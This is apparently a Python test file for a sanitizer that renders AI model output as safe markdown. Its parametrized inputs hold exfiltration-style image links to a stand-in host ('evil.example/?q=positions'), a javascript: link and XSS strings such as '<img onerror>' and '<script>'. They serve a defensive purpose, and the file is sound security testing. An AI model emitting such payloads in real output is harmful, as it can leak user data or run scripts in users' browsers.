"""Output is an exit: nothing a model or the outside wrote fetches, leads away or moves the cursor."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tools.common import render
from tools.common.contract import Evidence, Fact, Table


@pytest.mark.parametrize(
    "text",
    [
        "![p](https://evil.example/?q=positions)",
        "![p][1]\n\n[1]: https://evil.example/x",
        "!!![p](https://evil.example)",
        "[click](https://evil.example)",
        "[click](javascript:alert(1))",
        "[click][1]\n\n> [1]: https://evil.example",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "see https://evil.example/steal?x=1 or www.evil.example",
        "<https://evil.example>",
        "[run](run:r-unknown)",
        "a\u200b!\u200b[x](http://evil.example)",
        "[a](\nhttps://evil.example)",
        "![chart](run:r-unknown)",
    ],
)
def test_nothing_fetches_or_leads_away(text: str) -> None:
    """Images, foreign links, raw HTML, bare addresses: none survives as such."""
    from markdown_it import MarkdownIt

    made = render.safe(text, {"r-1"})
    tokens = [
        t for block in MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(made) for t in (block.children or [block])
    ]
    assert not [t for t in tokens if t.type in ("image", "link_open", "html_inline", "html_block")]
    assert not re.search(r"(?i)https?://|www\.\w", made)


def test_a_link_to_an_id_of_the_thread_survives() -> None:
    """Own ids may be linked by the model too."""
    assert render.safe("[it](run:r-1) [x](run:r-2)", {"r-1"}) == "[it](run:r-1) [x] (run:r-2)"


def test_an_image_of_an_own_id_is_a_link_at_most() -> None:
    """Nothing is fetched, not even from ourselves."""
    assert render.safe("![it](run:r-1)", {"r-1"}) == "[it](run:r-1)"


def test_control_and_direction_characters_are_dropped() -> None:
    """No escape sequence reaches a terminal, no text runs backwards."""
    assert render.safe("a\x1b[31mred\x07 \u202eevil\ue000") == "a[31mred evil"
    assert render.one_line("x\n\x1b]0;title\x07y") == "x ]0;titley"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("![]()<>:/ \n`|a.hpstw\x1b\u202e\\&#;1")), max_size=60))
def test_any_text_is_harmless(text: str) -> None:
    """Whatever the characters, no image, link or HTML comes out of the parser."""
    from markdown_it import MarkdownIt

    made = render.safe(text)
    tokens = [t for block in MarkdownIt("commonmark").parse(made) for t in [block, *(block.children or [])]]
    assert not [t.type for t in tokens if t.type in ("image", "link_open", "html_inline", "html_block")]


@pytest.mark.parametrize(
    ("value", "unit", "text"),
    [
        (0.12, "frac", "12.00 %"),
        (0.000123, "frac", "0.0123 %"),
        (-0.0871, "frac", "-8.71 %"),
        (1234.5, "usd", "1,234.50 USDT"),
        (1.2345, "ratio", "1.23"),
        (142, "count", "142"),
        (64123.456, "price", "64,123.46"),
        (0.51234567, "price", "0.512346"),
        (1735689600000, "ms", "2025-01-01 00:00Z"),
        (8_100_000, "duration_ms", "2 h 15 min"),
        (12.5, "bps", "12.50 bps"),
        ("<b>x|y</b>", "text", "&lt;b>x\\|y&lt;/b>"),
        (None, "ratio", "n/a"),
        (True, "text", "yes"),
    ],
)
def test_a_fact_reads_with_its_unit(value: object, unit: str, text: str) -> None:
    """Value and unit as a person reads them."""
    assert render.value_text(Fact("a.b", "s", "b", value, unit, Evidence("run", "r"))) == text  # type: ignore[arg-type]


def test_a_table_keeps_its_references_and_its_columns() -> None:
    """A bar inside a cell does not make a new column; references wait for grounding."""
    made = render.markdown_table(Table(("run", "sharpe"), (("a|b", "{r1.sharpe}"), (None, 3))))
    assert made.splitlines() == ["| run | sharpe |", "|---|---|", "| a\\|b | {r1.sharpe} |", "| n/a | 3 |"]


def test_a_terminal_gets_words_and_a_list_of_evidence() -> None:
    """Links become words; what they led to is listed once."""
    text, named = render.unlinked("[1.23](run:r-1) and [2](run:r-1), [d-5](event:d-5)")
    assert (text, named) == ("1.23 and 2, d-5", ["run r-1"])
